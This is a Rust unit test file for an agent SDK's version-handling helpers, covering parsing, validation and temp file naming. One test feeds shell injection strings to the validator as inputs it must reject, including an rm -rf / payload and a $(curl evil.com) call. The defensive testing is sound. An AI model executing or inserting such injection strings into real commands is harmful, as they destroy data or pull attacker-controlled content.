use claude_code_agent_sdk::version::{
    check_version, parse_version, unique_tmp_name_for, validate_version_string, CLI_VERSION,
    MIN_CLI_VERSION,
};

#[test]
fn test_parse_version() {
    assert_eq!(parse_version("1.2.3"), Some((1, 2, 3)));
    assert_eq!(parse_version("v1.2.3"), Some((1, 2, 3)));
    assert_eq!(parse_version("10.20.30"), Some((10, 20, 30)));
    assert_eq!(parse_version("1.2"), None);
    assert_eq!(parse_version("invalid"), None);
}

#[test]
fn test_check_version() {
    assert!(check_version("2.0.0"));
    assert!(check_version("2.0.1"));
    assert!(check_version("2.1.0"));
    assert!(check_version("3.0.0"));
    assert!(!check_version("1.9.9"));
    assert!(!check_version("1.99.99"));
}

#[test]
fn test_cli_version_format() {
    assert!(
        parse_version(CLI_VERSION).is_some(),
        "CLI_VERSION must be a valid semver string"
    );
}

#[test]
fn test_cli_version_meets_minimum() {
    assert!(
        check_version(CLI_VERSION),
        "CLI_VERSION ({}) must meet MIN_CLI_VERSION ({})",
        CLI_VERSION,
        MIN_CLI_VERSION
    );
}

#[test]
fn test_validate_version_string_valid() {
    assert!(validate_version_string("2.1.38").is_ok());
    assert!(validate_version_string("0.0.1").is_ok());
    assert!(validate_version_string("10.20.30").is_ok());
}

#[test]
fn test_validate_version_string_rejects_empty() {
    assert!(validate_version_string("").is_err());
}

#[test]
fn test_validate_version_string_rejects_injection() {
    assert!(validate_version_string("'; rm -rf /; '").is_err());
    assert!(validate_version_string("1.0.0; echo pwned").is_err());
    assert!(validate_version_string("$(curl evil.com)").is_err());
    assert!(validate_version_string("1.0.0-beta").is_err());
    assert!(validate_version_string("v1.0.0").is_err());
}

#[test]
fn test_validate_version_string_rejects_special_chars() {
    assert!(validate_version_string("1.0.0 ").is_err());
    assert!(validate_version_string("1.0.0\n").is_err());
    assert!(validate_version_string("1.0.0\t2.0.0").is_err());
}

#[test]
fn test_cli_version_passes_validation() {
    assert!(
        validate_version_string(CLI_VERSION).is_ok(),
        "CLI_VERSION ({}) must pass version validation",
        CLI_VERSION
    );
}

#[test]
fn parse_version_edge_cases() {
    // Extra fields are ignored; each of the first three must be a u32.
    assert_eq!(parse_version("1.2.3.4"), Some((1, 2, 3)));
    assert_eq!(parse_version("vv1.2.3"), Some((1, 2, 3)));
    assert_eq!(parse_version("+1.2.3"), Some((1, 2, 3)));
    assert_eq!(parse_version("1.2.3-beta"), None);
    assert_eq!(parse_version("1..3"), None);
    assert_eq!(parse_version("4294967295.0.0"), Some((4294967295, 0, 0)));
    assert_eq!(parse_version("4294967296.0.0"), None);
    assert_eq!(parse_version("-1.2.3"), None);
    assert_eq!(parse_version(""), None);
    assert_eq!(parse_version("1.2.3 "), None);
}

#[test]
fn check_version_edge_cases() {
    assert!(!check_version("garbage"));
    assert!(check_version("v2.0.0"));
    assert!(check_version("10.0.0"));
    assert!(!check_version("1.999999.999999"));
}

#[test]
fn validate_version_string_messages() {
    assert_eq!(
        validate_version_string("").unwrap_err(),
        "Version string is empty"
    );
    assert_eq!(
        validate_version_string("1.0a").unwrap_err(),
        "Version string contains invalid characters: '1.0a'. Only digits and dots are allowed."
    );
}

#[test]
fn test_unique_tmp_name_format() {
    let name = unique_tmp_name_for(".agent", 4321, ".tmp");
    assert_eq!(name, ".agent.4321.tmp");
    assert!(name.starts_with(".agent."));
    assert!(name.ends_with(".tmp"));
    assert!(name.contains("4321"));
    assert_eq!(unique_tmp_name_for("b", 0, ""), "b.0");
}

#[test]
fn version_from_cli_output() {
    use_version_from_output();
}

fn use_version_from_output() {
    let f = claude_code_agent_sdk::version::version_from_output;
    assert_eq!(f("2.1.38 (Code)\n"), Some("2.1.38".to_string()));
    assert_eq!(f("  1.0.0\tbuild\nsecond"), Some("1.0.0".to_string()));
    assert_eq!(f("3.0.0"), Some("3.0.0".to_string()));
    assert_eq!(f(""), None);
    assert_eq!(f("\n2.0.0"), None);
    assert_eq!(f("   \r\n2.0.0"), None);
    assert_eq!(f("2.0.0\r\n"), Some("2.0.0".to_string()));
    assert_eq!(f("\u{a0}4.5.6\u{3000}x"), Some("4.5.6".to_string()));
}

#[test]
fn rendered_versions_parse_back() {
    for &(a, b, c) in [(0u32, 0u32, 0u32), (2, 1, 38), (10, 200, 3000), (u32::MAX, 7, u32::MAX)].iter() {
        assert_eq!(parse_version(&format!("{}.{}.{}", a, b, c)), Some((a, b, c)));
        assert_eq!(parse_version(&format!("v{}.{}.{}", a, b, c)), Some((a, b, c)));
    }
}
